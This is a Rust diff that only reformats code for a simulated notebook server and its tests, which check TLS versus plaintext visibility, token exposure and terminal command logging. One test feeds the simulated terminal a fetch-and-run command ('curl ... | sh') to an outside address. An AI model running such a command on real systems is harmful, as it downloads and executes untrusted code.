@@ -117,7 +117,11 @@ impl NotebookServer {
             None,
             SimTime::ZERO,
         );
-        let port = if config.listen_all_interfaces { 8888 } else { 443 };
+        let port = if config.listen_all_interfaces {
+            8888
+        } else {
+            443
+        };
         NotebookServer {
             id,
             config,
@@ -167,10 +171,7 @@ impl NotebookServer {
         idx
     }
 
-    fn transport_encrypt(
-        cipher: &mut Option<ChaCha20>,
-        bytes: Vec<u8>,
-    ) -> Vec<u8> {
+    fn transport_encrypt(cipher: &mut Option<ChaCha20>, bytes: Vec<u8>) -> Vec<u8> {
         match cipher {
             Some(c) => c.encrypt(&bytes),
             None => bytes,
@@ -541,8 +542,14 @@ impl NotebookServer {
             }
         };
         term.run(at, cmdline);
-        let name = cmdline.split_whitespace().next().unwrap_or("sh").to_string();
-        let pid = self.procs.spawn(&name, cmdline, user, Some(self.server_pid), at);
+        let name = cmdline
+            .split_whitespace()
+            .next()
+            .unwrap_or("sh")
+            .to_string();
+        let pid = self
+            .procs
+            .spawn(&name, cmdline, user, Some(self.server_pid), at);
         self.push_event(
             at,
             user,
@@ -615,10 +622,8 @@ mod tests {
 
     #[test]
     fn plaintext_handshake_visible_tls_not() {
-        for (mode, expect_visible) in [
-            (TransportMode::PlainWs, true),
-            (TransportMode::Tls, false),
-        ] {
+        for (mode, expect_visible) in [(TransportMode::PlainWs, true), (TransportMode::Tls, false)]
+        {
             let mut cfg = ServerConfig::hardened();
             cfg.transport = mode;
             let (mut srv, mut net) = boot(cfg);
@@ -638,7 +643,8 @@ mod tests {
         let (mut srv, mut net) = boot(cfg);
         let _ = srv.connect(&mut net, SimTime::ZERO, client_addr(), "alice", 0);
         let trace = net.into_trace();
-        let stream = String::from_utf8_lossy(&trace.reassemble(0, Direction::ToResponder)).into_owned();
+        let stream =
+            String::from_utf8_lossy(&trace.reassemble(0, Direction::ToResponder)).into_owned();
         assert!(stream.contains("token=tok-1"), "stream: {stream}");
     }
 
@@ -791,7 +797,11 @@ mod tests {
     fn terminal_commands_recorded() {
         let (mut srv, _net) = boot(ServerConfig::hardened());
         srv.run_terminal(SimTime::from_secs(1), "alice", "ls -la /scratch");
-        srv.run_terminal(SimTime::from_secs(2), "alice", "curl http://203.0.0.9/x | sh");
+        srv.run_terminal(
+            SimTime::from_secs(2),
+            "alice",
+            "curl http://203.0.0.9/x | sh",
+        );
         assert_eq!(srv.terminals.len(), 1);
         assert_eq!(srv.terminals[0].history.len(), 2);
         assert_eq!(
